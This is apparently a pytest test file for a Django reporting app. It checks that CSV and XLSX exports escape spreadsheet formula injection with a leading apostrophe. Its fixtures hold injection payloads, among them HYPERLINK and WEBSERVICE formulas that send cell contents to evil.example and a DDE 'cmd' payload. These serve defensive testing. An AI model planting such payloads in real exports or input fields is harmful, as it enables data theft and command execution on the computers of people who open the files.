"""CSV and XLSX exports never hand a spreadsheet a formula: text typed by a user that starts
with ``=``, ``+``, ``-``, ``@``, a tab or a carriage return gets a leading apostrophe
(``core.spreadsheets.safe_cell``); numbers, negative ones too, stay numbers."""

import csv
import datetime
import decimal
import io

import pytest
import time_machine
from django.urls import reverse
from openpyxl import load_workbook

from core.spreadsheets import safe_cell
from reports.exports import Column, Table, csv_response, xlsx_bytes
from tests.customers.factories import OrganisationFactory, ProjectFactory
from tests.tickets.helpers import sh

pytestmark = pytest.mark.django_db

NOW = sh(2026, 4, 10, 12, 0)
MARCH = {"from": "2026-03-01", "to": "2026-03-31"}
HOSTILE = [
    '=HYPERLINK("http://evil.example/?"&A1,"Click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
]


@pytest.fixture(autouse=True)
def frozen():
    with time_machine.travel(NOW, tick=False):
        yield


def csv_rows(response) -> list[list[str]]:
    body = b"".join(response.streaming_content).decode("utf-8")
    assert body.startswith("\ufeff")
    return list(csv.reader(io.StringIO(body[1:])))


def xlsx_cells(content: bytes) -> list[list]:
    sheet = load_workbook(io.BytesIO(content)).active
    return [list(row) for row in sheet.iter_rows()]


def test_safe_cell_is_the_rule():
    assert [safe_cell(text) for text in HOSTILE] == ["'" + text for text in HOSTILE]
    for value in ("Pump -3 bar", "a=b", "", " =1", "'quoted", None, -3, -1.5, decimal.Decimal("-2.5"), 0):
        assert safe_cell(value) == value


@pytest.fixture
def hostile_breaches(make_ticket, make_clock):
    organisation = OrganisationFactory(name="=cmd|' /C calc'!A0", code="hostile")
    project = ProjectFactory(organisation=organisation, name="@SUM(1+1)", code="hostile-p")
    tickets = []
    for day, title in enumerate(HOSTILE):
        ticket = make_ticket(project, sh(2026, 3, 2 + day, 9, 0), title=title)
        make_clock(ticket, due_at=ticket.received_at + datetime.timedelta(seconds=60))
        tickets.append(ticket)
    return tickets


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_the_dashboards_exports_neutralise_formulas(client, manager, hostile_breaches, fmt):
    client.force_login(manager)
    response = client.get(reverse("reports:export", args=["breaches", fmt]), MARCH)
    assert response.status_code == 200
    if fmt == "csv":
        header, *rows = csv_rows(response)
        values = rows
    else:
        cells = xlsx_cells(response.content)
        header = [cell.value for cell in cells[0]]
        assert not [cell.coordinate for row in cells for cell in row if cell.data_type == "f"]  # no formula
        values = [[cell.value for cell in row] for row in cells[1:]]
    title, organisation, project = (header.index(name) for name in ("Title", "Organisation", "Delivered project"))
    expected = ["'" + text for text in HOSTILE]
    if fmt == "xlsx":  # XML reads a carriage return as a line feed
        expected = [text.replace("\r", "\n") for text in expected]
    assert sorted(row[title] for row in values) == sorted(expected)
    assert {row[organisation] for row in values} == {"'=cmd|' /C calc'!A0"}
    assert {row[project] for row in values} == {"'@SUM(1+1)"}


def test_the_archive_csv_neutralises_formulas(client, engineer, make_ticket):
    organisation = OrganisationFactory(name="Hostile", code="hostile")
    project = ProjectFactory(organisation=organisation, name="-1+1", code="hostile-p")
    make_ticket(project, sh(2026, 3, 10, 10, 0), title='=WEBSERVICE("http://evil.example/"&A1)')
    client.force_login(engineer)
    response = client.get(reverse("reports:archive-organisation-export", args=[organisation.pk, "csv"]), MARCH)
    header, *rows = csv_rows(response)
    [row] = rows
    assert row[header.index("Title")] == '\'=WEBSERVICE("http://evil.example/"&A1)'
    assert row[header.index("Project")] == "'-1+1"


def test_numbers_stay_numbers_and_text_that_looks_negative_is_text():
    table = Table(
        name="t",
        title="T",
        columns=[Column("n", "Number"), Column("d", "Decimal"), Column("f", "Float"), Column("t", "Text")],
        rows=[{"n": -3, "d": decimal.Decimal("-2.25"), "f": -1.5, "t": "-3"}],
    )
    [row] = xlsx_cells(xlsx_bytes(table))[1:]
    assert [cell.value for cell in row] == [-3, -2.25, -1.5, "'-3"]
    assert [cell.data_type for cell in row] == ["n", "n", "n", "s"]
    body = b"".join(csv_response(table).streaming_content).decode("utf-8")
    assert body.splitlines()[1] == "-3,-2.25,-1.5,'-3"
